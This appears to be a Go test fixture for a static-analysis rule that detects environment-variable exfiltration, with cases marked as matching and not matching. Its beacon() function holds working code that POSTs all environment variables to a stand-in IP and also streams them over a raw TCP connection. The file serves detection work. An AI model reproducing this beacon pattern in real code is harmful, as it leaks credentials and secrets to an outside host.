// Fixture for go-exfil-environment.
// RULEID: os.Environ joined and POSTed; env written to a TCP connection.
// OK: cmd.Env = os.Environ(); one named variable in a header.
package main

import (
	"bytes"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
)

func beacon() {
	env := strings.Join(os.Environ(), "\n")
	// ruleid: go-exfil-environment
	http.Post("https://198.51.100.4/e", "text/plain", bytes.NewBufferString(env))
	conn, _ := net.Dial("tcp", "198.51.100.4:9000")
	for _, kv := range os.Environ() {
		// ruleid: go-exfil-environment
		conn.Write([]byte(kv + "\n"))
	}
}

func build() {
	cmd := exec.Command("make")
	// ok: go-exfil-environment
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	req, _ := http.NewRequest("GET", "https://api.github.com/user", nil)
	// ok: go-exfil-environment
	req.Header.Set("Authorization", "token "+os.Getenv("GITHUB_TOKEN"))
	cmd.Run()
}
